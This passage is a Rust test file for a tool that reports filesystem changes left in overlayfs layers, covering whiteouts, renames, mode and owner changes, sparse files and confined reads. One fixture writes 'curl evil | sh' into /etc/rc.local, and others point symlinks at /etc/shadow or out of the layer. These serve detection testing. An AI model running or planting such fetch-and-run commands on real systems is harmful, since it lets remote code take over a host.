//! The walk over upper and lower layers laid out by hand as overlayfs leaves them, so each
//! kind of change is checked on temp dirs without mounting anything. The cases that need a
//! privilege to lay out their layers are in `privileged`.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use super::*;

fn c_path(path: &Path) -> std::ffi::CString {
    std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap()
}

/// An upper layer and one lower layer side by side in a temp dir.
struct Layers {
    tmp: tempfile::TempDir,
    upper: PathBuf,
    lower: PathBuf,
}

impl Layers {
    fn new() -> Layers {
        let tmp = tempfile::tempdir().unwrap();
        let (upper, lower) = (tmp.path().join("upper"), tmp.path().join("lower"));
        fs::create_dir(&upper).unwrap();
        fs::create_dir(&lower).unwrap();
        Layers { tmp, upper, lower }
    }

    fn witness(&self) -> OverlayWitness {
        OverlayWitness::new(&self.upper, vec![self.lower.clone()])
    }

    fn changes(&self) -> Vec<FsChange> {
        self.witness().collect().unwrap().changes
    }
}

/// Writes `content` at `rel` under `layer` with `mode`.
fn file(layer: &Path, rel: &str, content: &[u8], mode: u32) -> PathBuf {
    let path = layer.join(rel);
    dirs(layer, path.parent().unwrap());
    fs::write(&path, content).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    path
}

fn dir(layer: &Path, rel: &str) -> PathBuf {
    let path = layer.join(rel);
    dirs(layer, &path);
    path
}

fn link(layer: &Path, rel: &str, target: &str) {
    let path = layer.join(rel);
    dirs(layer, path.parent().unwrap());
    symlink(target, path).unwrap();
}

fn dirs(layer: &Path, path: &Path) {
    fs::create_dir_all(path).unwrap();
    // Every directory 0755 in both layers, whatever the umask, so that a parent copied up
    // into the upper layer is no change of its own, as after a real copy-up.
    for ancestor in path.ancestors().take_while(|a| *a != layer) {
        fs::set_permissions(ancestor, fs::Permissions::from_mode(0o755)).unwrap();
    }
}

fn digest_of(content: &[u8]) -> FileDigest {
    FileDigest {
        size: content.len() as u64,
        blake3: blake3::hash(content).to_hex().to_string(),
        partial: false,
        hashed: None,
    }
}

fn at(path: &str) -> PathBuf {
    PathBuf::from(path)
}

fn created_file(path: &str, content: &[u8], mode: u32) -> FsChange {
    FsChange::Created {
        path: at(path),
        kind: NodeKind::File,
        digest: Some(digest_of(content)),
        mode,
    }
}

fn created_dir(path: &str) -> FsChange {
    FsChange::Created {
        path: at(path),
        kind: NodeKind::Dir,
        digest: None,
        mode: 0o755,
    }
}

#[test]
fn a_created_file_has_its_size_blake3_and_mode() {
    let layers = Layers::new();
    dir(&layers.lower, "etc");
    file(&layers.upper, "etc/new", b"fresh\n", 0o640);
    assert_eq!(
        layers.changes(),
        vec![created_file("/etc/new", b"fresh\n", 0o640)]
    );
}

#[test]
fn an_empty_created_file_is_not_a_whiteout() {
    let layers = Layers::new();
    dir(&layers.lower, "tmp");
    file(&layers.upper, "tmp/empty", b"", 0o600);
    // The blake3 of no bytes, from the reference test vectors.
    let empty = FileDigest {
        size: 0,
        blake3: "af1349b9f5f9a1a6a0404dea36dcc9499bcb25c9adc112b7cc9a93cae41f3262".into(),
        partial: false,
        hashed: None,
    };
    assert_eq!(
        layers.changes(),
        vec![FsChange::Created {
            path: at("/tmp/empty"),
            kind: NodeKind::File,
            digest: Some(empty),
            mode: 0o600,
        }]
    );
}

#[test]
fn a_modified_file_is_compared_with_the_lower_content() {
    let layers = Layers::new();
    file(&layers.lower, "etc/profile", b"export A=1\n", 0o644);
    file(
        &layers.upper,
        "etc/profile",
        b"export A=1\nappended\n",
        0o644,
    );
    assert_eq!(
        layers.changes(),
        vec![FsChange::Modified {
            path: at("/etc/profile"),
            old: digest_of(b"export A=1\n"),
            new: digest_of(b"export A=1\nappended\n"),
            truncated: false,
        }]
    );
}

#[test]
fn a_file_cut_to_its_beginning_is_truncated_and_one_rewritten_shorter_is_not() {
    let layers = Layers::new();
    file(
        &layers.lower,
        "work/cut",
        b"first line\nsecond line\n",
        0o644,
    );
    file(&layers.upper, "work/cut", b"first line\n", 0o644);
    file(
        &layers.lower,
        "work/index",
        b"DIRC 245 bytes of an index\n",
        0o644,
    );
    file(&layers.upper, "work/index", b"DIRC rewritten\n", 0o644);
    assert_eq!(
        layers.changes(),
        vec![
            FsChange::Modified {
                path: at("/work/cut"),
                old: digest_of(b"first line\nsecond line\n"),
                new: digest_of(b"first line\n"),
                truncated: true,
            },
            FsChange::Modified {
                path: at("/work/index"),
                old: digest_of(b"DIRC 245 bytes of an index\n"),
                new: digest_of(b"DIRC rewritten\n"),
                truncated: false,
            },
        ]
    );
}

#[test]
fn a_node_copied_up_unchanged_is_no_change() {
    let layers = Layers::new();
    for layer in [&layers.lower, &layers.upper] {
        file(layer, "etc/hosts", b"127.0.0.1 localhost\n", 0o644);
        link(layer, "etc/localtime", "/usr/share/zoneinfo/UTC");
    }
    let report = layers.witness().collect().unwrap();
    assert_eq!(report.changes, vec![]);
    assert_eq!(report.entries_visited, 3);
}

#[test]
fn old_content_comes_from_the_topmost_lower_layer_that_has_the_path() {
    let layers = Layers::new();
    let bottom = layers.tmp.path().join("bottom");
    file(&layers.lower, "etc/a", b"top\n", 0o644);
    file(&bottom, "etc/a", b"bottom\n", 0o644);
    file(&bottom, "etc/b", b"only in bottom\n", 0o644);
    file(&layers.upper, "etc/a", b"new a\n", 0o644);
    file(&layers.upper, "etc/b", b"new b\n", 0o644);
    let witness = OverlayWitness::new(&layers.upper, vec![layers.lower.clone(), bottom]);
    assert_eq!(
        witness.collect().unwrap().changes,
        vec![
            FsChange::Modified {
                path: at("/etc/a"),
                old: digest_of(b"top\n"),
                new: digest_of(b"new a\n"),
                truncated: false,
            },
            FsChange::Modified {
                path: at("/etc/b"),
                old: digest_of(b"only in bottom\n"),
                new: digest_of(b"new b\n"),
                truncated: false,
            },
        ]
    );
}

#[test]
fn a_mode_change_alone_is_mode_changed_with_special_bits() {
    let layers = Layers::new();
    file(&layers.lower, "etc/debian_version", b"12\n", 0o644);
    file(&layers.upper, "etc/debian_version", b"12\n", 0o600);
    file(&layers.lower, "usr/bin/tool", b"#!/bin/sh\n", 0o755);
    file(&layers.upper, "usr/bin/tool", b"#!/bin/sh\n", 0o4755);
    assert_eq!(
        layers.changes(),
        vec![
            FsChange::ModeChanged {
                path: at("/etc/debian_version"),
                old: 0o644,
                new: 0o600,
            },
            FsChange::ModeChanged {
                path: at("/usr/bin/tool"),
                old: 0o755,
                new: 0o4755,
            },
        ]
    );
}

#[test]
fn a_modified_file_whose_mode_changed_reports_both() {
    let layers = Layers::new();
    file(&layers.lower, "etc/rc.local", b"exit 0\n", 0o644);
    file(&layers.upper, "etc/rc.local", b"curl evil | sh\n", 0o755);
    assert_eq!(
        layers.changes(),
        vec![
            FsChange::Modified {
                path: at("/etc/rc.local"),
                old: digest_of(b"exit 0\n"),
                new: digest_of(b"curl evil | sh\n"),
                truncated: false,
            },
            FsChange::ModeChanged {
                path: at("/etc/rc.local"),
                old: 0o644,
                new: 0o755,
            },
        ]
    );
}

#[test]
fn a_new_directory_and_everything_under_it_are_created() {
    let layers = Layers::new();
    dir(&layers.lower, "tmp");
    file(&layers.upper, "tmp/vac-dir/inner/key", b"k\n", 0o600);
    assert_eq!(
        layers.changes(),
        vec![
            created_dir("/tmp/vac-dir"),
            created_dir("/tmp/vac-dir/inner"),
            created_file("/tmp/vac-dir/inner/key", b"k\n", 0o600),
        ]
    );
}

#[test]
fn a_created_symlink_has_its_target_and_no_previous_one() {
    let layers = Layers::new();
    dir(&layers.lower, "tmp");
    link(&layers.upper, "tmp/vac-link", "/etc/shadow");
    assert_eq!(
        layers.changes(),
        vec![FsChange::Symlink {
            path: at("/tmp/vac-link"),
            target: at("/etc/shadow"),
            previous: None,
        }]
    );
}

#[test]
fn a_repointed_symlink_keeps_its_previous_target() {
    let layers = Layers::new();
    link(&layers.lower, "etc/alternatives/editor", "/usr/bin/vi");
    link(&layers.upper, "etc/alternatives/editor", "/tmp/evil");
    assert_eq!(
        layers.changes(),
        vec![FsChange::Symlink {
            path: at("/etc/alternatives/editor"),
            target: at("/tmp/evil"),
            previous: Some(at("/usr/bin/vi")),
        }]
    );
}

#[test]
fn a_file_replaced_by_another_kind_is_deleted_then_created() {
    let layers = Layers::new();
    file(&layers.lower, "etc/thing", b"x\n", 0o644);
    file(&layers.lower, "etc/other", b"y\n", 0o644);
    dir(&layers.upper, "etc/thing");
    link(&layers.upper, "etc/other", "/etc/thing");
    assert_eq!(
        layers.changes(),
        vec![
            FsChange::Deleted {
                path: at("/etc/other"),
                was: NodeKind::File,
            },
            FsChange::Symlink {
                path: at("/etc/other"),
                target: at("/etc/thing"),
                previous: None,
            },
            FsChange::Deleted {
                path: at("/etc/thing"),
                was: NodeKind::File,
            },
            created_dir("/etc/thing"),
        ]
    );
}

#[test]
fn a_file_moved_away_and_replaced_by_a_directory_is_a_rename() {
    // `mv /etc/issue.net /etc/issue.net.moved; mkdir /etc/issue.net`: the lower file is
    // hidden by the directory, and its content reappears elsewhere.
    let layers = Layers::new();
    file(
        &layers.lower,
        "etc/issue.net",
        b"Debian GNU/Linux 12\n",
        0o644,
    );
    dir(&layers.upper, "etc/issue.net");
    file(
        &layers.upper,
        "etc/issue.net.moved",
        b"Debian GNU/Linux 12\n",
        0o644,
    );
    assert_eq!(
        layers.changes(),
        vec![
            created_dir("/etc/issue.net"),
            FsChange::Renamed {
                from: at("/etc/issue.net"),
                to: at("/etc/issue.net.moved"),
                digest: digest_of(b"Debian GNU/Linux 12\n"),
            },
        ]
    );
}

#[test]
fn a_created_file_of_the_same_size_but_other_content_is_not_a_rename() {
    let layers = Layers::new();
    file(&layers.lower, "etc/motd", b"one\n", 0o644);
    dir(&layers.upper, "etc/motd");
    file(&layers.upper, "etc/motd.new", b"two\n", 0o644);
    assert_eq!(
        layers.changes(),
        vec![
            FsChange::Deleted {
                path: at("/etc/motd"),
                was: NodeKind::File,
            },
            created_dir("/etc/motd"),
            created_file("/etc/motd.new", b"two\n", 0o644),
        ]
    );
}

const MARKER: &str = "/.vac-marker-0123abcd";

fn marker() -> Marker {
    Marker {
        path: at(MARKER),
        content: b"nonce-0123abcd\n".to_vec(),
    }
}

#[test]
fn a_found_marker_makes_the_walk_live_and_is_no_change() {
    let layers = Layers::new();
    dir(&layers.lower, "tmp");
    file(&layers.upper, &MARKER[1..], b"nonce-0123abcd\n", 0o644);
    file(&layers.upper, "tmp/x", b"quiet\n", 0o644);
    let report = layers.witness().expect_marker(marker()).collect().unwrap();
    assert_eq!(report.self_test, SelfTest::Live { marker: at(MARKER) });
    assert_eq!(
        report.changes,
        vec![created_file("/tmp/x", b"quiet\n", 0o644)]
    );
    report.require_live().unwrap();
}

#[test]
fn a_missing_marker_makes_the_walk_blind() {
    let layers = Layers::new();
    dir(&layers.lower, "tmp");
    file(&layers.upper, "tmp/x", b"quiet\n", 0o644);
    let report = layers.witness().expect_marker(marker()).collect().unwrap();
    let reason = format!(
        "marker {MARKER} with its content was not found in the upper layer {}",
        layers.upper.display()
    );
    assert_eq!(
        report.self_test,
        SelfTest::Blind {
            marker: at(MARKER),
            reason: reason.clone(),
        }
    );
    assert_eq!(
        report.changes,
        vec![created_file("/tmp/x", b"quiet\n", 0o644)]
    );
    assert_eq!(
        report.require_live().unwrap_err().to_string(),
        format!("the fs write witness is blind: {reason}")
    );
}

#[test]
fn a_marker_with_other_content_makes_the_walk_blind_and_stays_a_change() {
    let layers = Layers::new();
    file(&layers.upper, &MARKER[1..], b"forged\n", 0o644);
    let report = layers.witness().expect_marker(marker()).collect().unwrap();
    assert!(
        matches!(&report.self_test, SelfTest::Blind { marker, .. } if *marker == at(MARKER)),
        "{:?}",
        report.self_test
    );
    assert_eq!(
        report.changes,
        vec![created_file(MARKER, b"forged\n", 0o644)]
    );
}

#[test]
fn a_missing_upper_layer_is_blind_not_an_error() {
    let layers = Layers::new();
    let witness = OverlayWitness::new(layers.upper.join("gone"), vec![layers.lower.clone()]);
    let report = witness.expect_marker(marker()).collect().unwrap();
    assert!(
        matches!(report.self_test, SelfTest::Blind { .. }),
        "{:?}",
        report.self_test
    );
    assert_eq!(report.changes, vec![]);
    assert_eq!(report.entries_visited, 0);
}

#[test]
fn an_upper_layer_that_is_not_a_directory_is_an_error_naming_it() {
    let layers = Layers::new();
    let upper = file(layers.tmp.path(), "plain", b"", 0o644);
    let error = OverlayWitness::new(&upper, vec![layers.lower.clone()])
        .collect()
        .unwrap_err();
    // Paths compare by components: the walk names the layer as `upper/`.
    match &error {
        WitnessError::Io { path, source } => {
            assert_eq!(path, &upper);
            assert_eq!(source.kind(), io::ErrorKind::NotADirectory);
        }
        other => panic!("{other:?}"),
    }
    assert!(
        error
            .to_string()
            .starts_with(&format!("cannot read {}", upper.display())),
        "{error}"
    );
}

#[test]
fn without_a_marker_the_self_test_did_not_run() {
    let layers = Layers::new();
    let report = layers.witness().collect().unwrap();
    assert_eq!(report.self_test, SelfTest::NotRun);
    assert_eq!(
        report.require_live().unwrap_err().to_string(),
        "the fs write witness is blind: no marker was written"
    );
}

#[test]
fn the_walk_visits_only_what_was_written() {
    let layers = Layers::new();
    for d in 0..20 {
        for f in 0..50 {
            file(&layers.lower, &format!("usr/d{d}/f{f}"), b"lower\n", 0o644);
        }
    }
    file(&layers.lower, "etc/profile", b"old\n", 0o644);
    file(&layers.upper, "etc/profile", b"new\n", 0o644);
    file(&layers.upper, "etc/new", b"n\n", 0o644);
    let report = layers.witness().collect().unwrap();
    // etc, etc/profile and etc/new: none of the thousand files below the lower usr.
    assert_eq!(report.entries_visited, 3);
    assert_eq!(report.changes.len(), 2, "{:?}", report.changes);
}

#[test]
fn changes_serialise_tagged_with_paths_as_strings_and_round_trip() {
    let fresh = digest_of(b"fresh\n");
    let changes = vec![
        created_file("/etc/new", b"fresh\n", 0o640),
        FsChange::Modified {
            path: at("/etc/profile"),
            old: digest_of(b"a\n"),
            new: fresh.clone(),
            truncated: false,
        },
        FsChange::Deleted {
            path: at("/etc/old.d"),
            was: NodeKind::Dir,
        },
        FsChange::Renamed {
            from: at("/etc/issue.net"),
            to: at("/etc/issue.net.moved"),
            digest: fresh.clone(),
        },
        FsChange::DirReplaced {
            path: at("/etc/conf.d"),
        },
        FsChange::ModeChanged {
            path: at("/etc/debian_version"),
            old: 0o644,
            new: 0o600,
        },
        FsChange::OwnerChanged {
            path: at("/etc/shadow"),
            old: (0, 42),
            new: (1234, 2345),
        },
        FsChange::Symlink {
            path: at("/tmp/vac-link"),
            target: at("/etc/shadow"),
            previous: None,
        },
    ];
    let json: Vec<String> = changes
        .iter()
        .map(|c| serde_json::to_string(c).unwrap())
        .collect();
    let digest = format!(r#"{{"size":6,"blake3":"{}"}}"#, fresh.blake3);
    assert_eq!(
        json[0],
        format!(
            r#"{{"change":"created","path":"/etc/new","kind":"file","digest":{digest},"mode":416}}"#
        )
    );
    assert_eq!(
        json[2],
        r#"{"change":"deleted","path":"/etc/old.d","was":"dir"}"#
    );
    assert_eq!(
        json[3],
        format!(
            r#"{{"change":"renamed","from":"/etc/issue.net","to":"/etc/issue.net.moved","digest":{digest}}}"#
        )
    );
    assert_eq!(json[4], r#"{"change":"dir_replaced","path":"/etc/conf.d"}"#);
    assert_eq!(
        json[6],
        r#"{"change":"owner_changed","path":"/etc/shadow","old":[0,42],"new":[1234,2345]}"#
    );
    assert_eq!(
        json[7],
        r#"{"change":"symlink","path":"/tmp/vac-link","target":"/etc/shadow","previous":null}"#
    );
    let back: Vec<FsChange> = json
        .iter()
        .map(|j| serde_json::from_str(j).unwrap())
        .collect();
    assert_eq!(back, changes);
}

#[test]
fn node_kinds_serialise_in_snake_case() {
    let kinds = [
        NodeKind::File,
        NodeKind::Dir,
        NodeKind::Symlink,
        NodeKind::Other,
    ];
    let json = serde_json::to_string(&kinds).unwrap();
    assert_eq!(json, r#"["file","dir","symlink","other"]"#);
    assert_eq!(serde_json::from_str::<[NodeKind; 4]>(&json).unwrap(), kinds);
}

/// The cases whose marks need a privilege to make: the `trusted.overlay.*` attributes
/// (`CAP_SYS_ADMIN`), a foreign owner (`CAP_CHOWN`) and, before Linux 5.8, the 0/0 whiteout
/// device (`CAP_MKNOD`). Where the kernel refuses one, the case prints `SKIPPED …` and stops;
/// under CI, where `VAC_REQUIRE_PRIVILEGED` is set, the refusal fails the test instead.
/// `.config/nextest.toml` shows this module's output so that a skip is seen.
mod privileged {
    use std::ffi::CStr;
    use std::os::unix::fs::{MetadataExt, lchown};

    use nix::errno::Errno;
    use nix::sys::stat::{Mode, SFlag, mknod};

    use super::*;

    /// The 0/0 character device overlayfs leaves in the upper layer for a deleted path.
    fn whiteout(layer: &Path, rel: &str) -> Result<(), Errno> {
        let path = layer.join(rel);
        dirs(layer, path.parent().unwrap());
        mknod(&path, SFlag::S_IFCHR, Mode::empty(), 0)
    }

    fn set_xattr(path: &Path, name: &CStr, value: &[u8]) -> Result<(), Errno> {
        sys::lsetxattr(&c_path(path), name, value)
    }

    /// Whether a mark that needs a privilege was made. A refusal (EPERM) is a visible skip, or
    /// a failure under CI; any other error fails the test.
    fn made(test: &str, what: &str, result: Result<(), Errno>) -> bool {
        match result {
            Ok(()) => true,
            Err(Errno::EPERM) => {
                assert!(
                    std::env::var_os("VAC_REQUIRE_PRIVILEGED").is_none(),
                    "{test} needs root to make {what} and VAC_REQUIRE_PRIVILEGED is set: a skip would hide a test that did not run"
                );
                eprintln!("SKIPPED {test}: making {what} needs root");
                false
            }
            Err(errno) => panic!("{test}: cannot make {what}: {errno}"),
        }
    }

    #[test]
    fn a_whiteout_device_is_a_deletion_of_what_the_lower_layer_held() {
        let test = "a_whiteout_device_is_a_deletion_of_what_the_lower_layer_held";
        let layers = Layers::new();
        file(&layers.lower, "etc/issue", b"Debian\n", 0o644);
        file(&layers.lower, "etc/old.d/conf", b"c\n", 0o644);
        if !made(
            test,
            "a whiteout device",
            whiteout(&layers.upper, "etc/issue"),
        ) {
            return;
        }
        whiteout(&layers.upper, "etc/old.d").unwrap();
        // A whiteout over nothing: the lower layer does not say what it was.
        whiteout(&layers.upper, "etc/never").unwrap();
        assert_eq!(
            layers.changes(),
            vec![
                FsChange::Deleted {
                    path: at("/etc/issue"),
                    was: NodeKind::File,
                },
                FsChange::Deleted {
                    path: at("/etc/never"),
                    was: NodeKind::Other,
                },
                FsChange::Deleted {
                    path: at("/etc/old.d"),
                    was: NodeKind::Dir,
                },
            ]
        );
    }

    #[test]
    fn a_whiteout_and_a_new_copy_of_its_content_are_a_rename() {
        let test = "a_whiteout_and_a_new_copy_of_its_content_are_a_rename";
        let layers = Layers::new();
        file(&layers.lower, "etc/issue.net", b"Debian GNU/Linux\n", 0o644);
        file(&layers.lower, "etc/motd", b"hello\n", 0o644);
        if !made(
            test,
            "a whiteout device",
            whiteout(&layers.upper, "etc/issue.net"),
        ) {
            return;
        }
        file(
            &layers.upper,
            "etc/issue.net.moved",
            b"Debian GNU/Linux\n",
            0o644,
        );
        // Same size, other content: a deletion and a creation, not a rename.
        whiteout(&layers.upper, "etc/motd").unwrap();
        file(&layers.upper, "etc/motd.new", b"HELLO\n", 0o644);
        assert_eq!(
            layers.changes(),
            vec![
                FsChange::Renamed {
                    from: at("/etc/issue.net"),
                    to: at("/etc/issue.net.moved"),
                    digest: digest_of(b"Debian GNU/Linux\n"),
                },
                FsChange::Deleted {
                    path: at("/etc/motd"),
                    was: NodeKind::File,
                },
                created_file("/etc/motd.new", b"HELLO\n", 0o644),
            ]
        );
    }

    #[test]
    fn an_empty_file_with_the_whiteout_attribute_is_a_deletion() {
        // Newer kernels whiteout with an attribute, and mark the parent opaque "x" (it may hold
        // such whiteouts): that parent is not replaced, so its other lower entries stay.
        let test = "an_empty_file_with_the_whiteout_attribute_is_a_deletion";
        let layers = Layers::new();
        file(&layers.lower, "etc/issue", b"Debian\n", 0o644);
        file(&layers.lower, "etc/hostname", b"box\n", 0o644);
        let issue = file(&layers.upper, "etc/issue", b"", 0o644);
        if !made(
            test,
            "a trusted.overlay.whiteout attribute",
            set_xattr(&issue, c"trusted.overlay.whiteout", b""),
        ) {
            return;
        }
        set_xattr(&layers.upper.join("etc"), c"trusted.overlay.opaque", b"x").unwrap();
        assert_eq!(
            layers.changes(),
            vec![FsChange::Deleted {
                path: at("/etc/issue"),
                was: NodeKind::File,
            }]
        );
    }

    #[test]
    fn an_opaque_directory_is_replaced_and_its_entries_are_created() {
        let test = "an_opaque_directory_is_replaced_and_its_entries_are_created";
        let layers = Layers::new();
        file(&layers.lower, "etc/conf.d/a", b"a\n", 0o644);
        file(&layers.lower, "etc/conf.d/b", b"b\n", 0o644);
        // `rm -r /etc/conf.d; mkdir /etc/conf.d; echo a > /etc/conf.d/a`: the old `a` is hidden,
        // so the new one is created, not left unchanged.
        let conf = file(&layers.upper, "etc/conf.d/a", b"a\n", 0o644);
        if !made(
            test,
            "a trusted.overlay.opaque attribute",
            set_xattr(conf.parent().unwrap(), c"trusted.overlay.opaque", b"y"),
        ) {
            return;
        }
        assert_eq!(
            layers.changes(),
            vec![
                FsChange::DirReplaced {
                    path: at("/etc/conf.d"),
                },
                created_file("/etc/conf.d/a", b"a\n", 0o644),
            ]
        );
    }

    #[test]
    fn an_owner_change_is_owner_changed() {
        let test = "an_owner_change_is_owner_changed";
        let layers = Layers::new();
        let lower = file(&layers.lower, "etc/shadow", b"root:*:\n", 0o640);
        let upper = file(&layers.upper, "etc/shadow", b"root:*:\n", 0o640);
        let chowned = lchown(&upper, Some(1234), Some(2345))
            .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(0)));
        if !made(test, "a file of another owner", chowned) {
            return;
        }
        let old = fs::symlink_metadata(&lower).unwrap();
        assert_eq!(
            layers.changes(),
            vec![FsChange::OwnerChanged {
                path: at("/etc/shadow"),
                old: (old.uid(), old.gid()),
                new: (1234, 2345),
            }]
        );
    }
}

/// The digest of the one file the layers' changes hold, created.
fn only_created_digest(layers: &Layers) -> FileDigest {
    let changes = layers.changes();
    let [
        FsChange::Created {
            digest: Some(digest),
            ..
        },
    ] = changes.as_slice()
    else {
        panic!("{changes:?}");
    };
    digest.clone()
}

#[test]
fn a_huge_sparse_file_is_hashed_up_to_the_cap_and_says_partial() {
    let layers = Layers::new();
    let path = layers.upper.join("huge");
    let file = fs::File::create(&path).unwrap();
    file.set_len(1 << 40).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    let digest = only_created_digest(&layers);
    assert_eq!(digest.size, 1 << 40);
    assert!(digest.partial);
    let zeros = vec![0u8; HASH_CAP as usize];
    assert_eq!(digest.blake3, blake3::hash(&zeros).to_hex().to_string());
    // A file within the cap is hashed whole and says so.
    let small = file_digest_of(&layers, b"abc");
    assert!(!small.partial);
}

/// Data between holes, a hole at the end and data across the cap: the digest is that of
/// the content with its holes as zeros, as if the file had been written whole.
#[test]
fn a_sparse_file_hashes_as_its_content_with_holes_as_zeros() {
    use std::os::unix::fs::FileExt;
    let layers = Layers::new();
    let path = layers.upper.join("sparse");
    let file = fs::File::create(&path).unwrap();
    let pieces: [(u64, &[u8]); 3] = [
        (3 << 20, b"middle"),
        (9 << 20, b"later"),
        (HASH_CAP - 2, b"across the cap"),
    ];
    for (at, bytes) in pieces {
        file.write_all_at(bytes, at).unwrap();
    }
    file.set_len(HASH_CAP + (4 << 20)).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    let digest = only_created_digest(&layers);
    let mut content = vec![0u8; HASH_CAP as usize + (4 << 20)];
    for (at, bytes) in pieces {
        content[at as usize..at as usize + bytes.len()].copy_from_slice(bytes);
    }
    content.truncate(HASH_CAP as usize);
    assert_eq!(digest.blake3, blake3::hash(&content).to_hex().to_string());
    assert!(digest.partial);
}

/// Makes `depth` nested directories named `name` under `root`, by descriptor (their path
/// may be longer than PATH_MAX), and returns the deepest one.
fn nested(root: &Path, name: &str, depth: usize) -> fs::File {
    use nix::fcntl::{OFlag, openat};
    use nix::sys::stat::{Mode, mkdirat};
    let mut at = fs::File::open(root).unwrap();
    for _ in 0..depth {
        mkdirat(&at, name, Mode::from_bits_truncate(0o755)).unwrap();
        let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
        at = fs::File::from(openat(&at, name, flags, Mode::empty()).unwrap());
    }
    at
}

/// Writes `content` to `name` in the open directory `dir`.
fn file_in(dir: &fs::File, name: &str, content: &[u8]) {
    use nix::fcntl::{OFlag, openat};
    use nix::sys::stat::Mode;
    let flags = OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_CLOEXEC;
    let fd = openat(dir, name, flags, Mode::from_bits_truncate(0o644)).unwrap();
    std::io::Write::write_all(&mut fs::File::from(fd), content).unwrap();
}

#[test]
fn a_tree_longer_than_path_max_is_walked_by_descriptor_and_a_write_beside_it_is_seen() {
    let layers = Layers::new();
    // A file the run modified, beside a tree whose paths run past PATH_MAX (4,096 bytes).
    file(&layers.lower, "home/.ssh/id_rsa", b"key\n", 0o600);
    file(&layers.upper, "home/.ssh/id_rsa", b"key\nappended\n", 0o600);
    let name = "d".repeat(60);
    let depth = 100;
    let deepest = nested(&layers.upper, &name, depth);
    file_in(&deepest, "bottom.txt", b"deep");
    let report = layers.witness().collect().unwrap();
    assert_eq!(report.incomplete, None);
    let bottom: PathBuf = std::iter::once("/".to_string())
        .chain(std::iter::repeat_n(name.clone(), depth))
        .chain(["bottom.txt".to_string()])
        .collect();
    assert!(bottom.as_os_str().len() > 4096);
    assert!(
        report
            .changes
            .contains(&created_file(bottom.to_str().unwrap(), b"deep", 0o644)),
        "the file at the bottom"
    );
    assert!(report.changes.iter().any(|c| matches!(c,
        FsChange::Modified { path, .. } if path == Path::new("/home/.ssh/id_rsa"))));
}

#[test]
fn a_tree_deeper_than_the_walk_goes_is_counted_and_backs_no_absence() {
    let layers = Layers::new();
    file(&layers.upper, "written.txt", b"seen", 0o644);
    nested(&layers.upper, "d", MAX_WALK_DEPTH + 10);
    let report = layers.witness().collect().unwrap();
    let incomplete = report.incomplete.clone().expect("the walk says it stopped");
    assert_eq!(incomplete.entries, 1, "one directory is where it stopped");
    assert!(incomplete.first.contains("deeper than"), "{incomplete:?}");
    assert!(
        report
            .changes
            .contains(&created_file("/written.txt", b"seen", 0o644)),
        "what it saw is still reported"
    );
    assert_eq!(
        report
            .changes
            .iter()
            .filter(|c| matches!(
                c,
                FsChange::Created {
                    kind: NodeKind::Dir,
                    ..
                }
            ))
            .count(),
        MAX_WALK_DEPTH
    );
    let error = report.require_live().unwrap_err().to_string();
    assert!(error.contains("missed 1 entries"), "{error}");
}

fn file_digest_of(layers: &Layers, content: &[u8]) -> FileDigest {
    file(&layers.upper, "small", content, 0o644);
    let changes = layers.changes();
    changes
        .iter()
        .find_map(|c| match c {
            FsChange::Created {
                path,
                digest: Some(d),
                ..
            } if path.ends_with("small") => Some(d.clone()),
            _ => None,
        })
        .unwrap()
}

/// An upper layer as a hostile program leaves it: a note, links out of the layer (at the
/// end and on the way), a FIFO; and [`HOSTILE_PATHS`] to read in it.
fn hostile_upper() -> Layers {
    let layers = Layers::new();
    let up = &layers.upper;
    fs::create_dir_all(up.join("lab/work")).unwrap();
    fs::write(up.join("lab/work/note.md"), b"same bytes").unwrap();
    fs::write(layers.tmp.path().join("outside"), b"host secret").unwrap();
    symlink(layers.tmp.path().join("outside"), up.join("lab/work/link")).unwrap();
    symlink(layers.tmp.path(), up.join("lab/work/dirlink")).unwrap();
    nix::unistd::mkfifo(
        &up.join("lab/work/fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    layers
}

const HOSTILE_PATHS: [&str; 7] = [
    "/lab/work/note.md",
    "/lab/work/link",
    "/lab/work/dirlink/outside",
    "/lab/../../outside",
    "/lab/work/fifo",
    "/lab/work",
    "/lab/work/absent",
];

/// A live read of the upper layer says what each path holds and never leaves the layer:
/// not through a symbolic link at the end or on the way, not by `..`, and it opens no FIFO.
#[test]
fn layer_states_read_beneath_the_upper_layer_only() {
    let layers = hostile_upper();
    let up = &layers.upper;
    let paths: Vec<PathBuf> = HOSTILE_PATHS.iter().map(PathBuf::from).collect();
    let states = layer_states(up, &paths);
    let hash = blake3::hash(b"same bytes").to_hex().to_string();
    assert!(
        matches!(&states[0], LayerState::File { digest, .. } if digest.blake3 == hash && digest.size == 10),
        "{states:?}"
    );
    assert_eq!(states[1], LayerState::Symlink);
    assert_eq!(states[2], LayerState::Symlink);
    assert!(
        matches!(&states[3], LayerState::Unreadable { error } if error == "EXDEV"),
        "{states:?}"
    );
    assert_eq!(states[4], LayerState::Other);
    assert!(matches!(states[5], LayerState::Dir { .. }));
    assert_eq!(states[6], LayerState::NotWritten);
    // The same bytes read the same: what a repeated call is compared by.
    assert_eq!(layer_states(up, &paths[..1]), states[..1].to_vec());
    fs::write(up.join("lab/work/note.md"), b"other bytes").unwrap();
    assert_ne!(layer_states(up, &paths[..1]), states[..1].to_vec());
}

#[test]
fn contents_are_read_beneath_the_layer_only() {
    let layers = hostile_upper();
    let up = &layers.upper;
    let layer = File::open(up).unwrap();
    let read = |path: &str| read_beneath(&layer, Path::new(path), 4);
    assert_eq!(read(HOSTILE_PATHS[0]).as_deref(), Some(&b"same"[..]));
    // Links, `..`, a FIFO (never opened for reading, so no read blocks on it), a
    // directory, an absent path.
    for refused in &HOSTILE_PATHS[1..] {
        assert_eq!(read(refused), None, "{refused}");
    }
}

/// Past the walk's hash budget each further file is hashed to its first
/// [`SPENT_HASH_CAP`] bytes and says how many: thousands of sparse gigabyte files cost a
/// bounded hashing, and a file modified past the budget still compares old with new to the
/// same cap.
#[test]
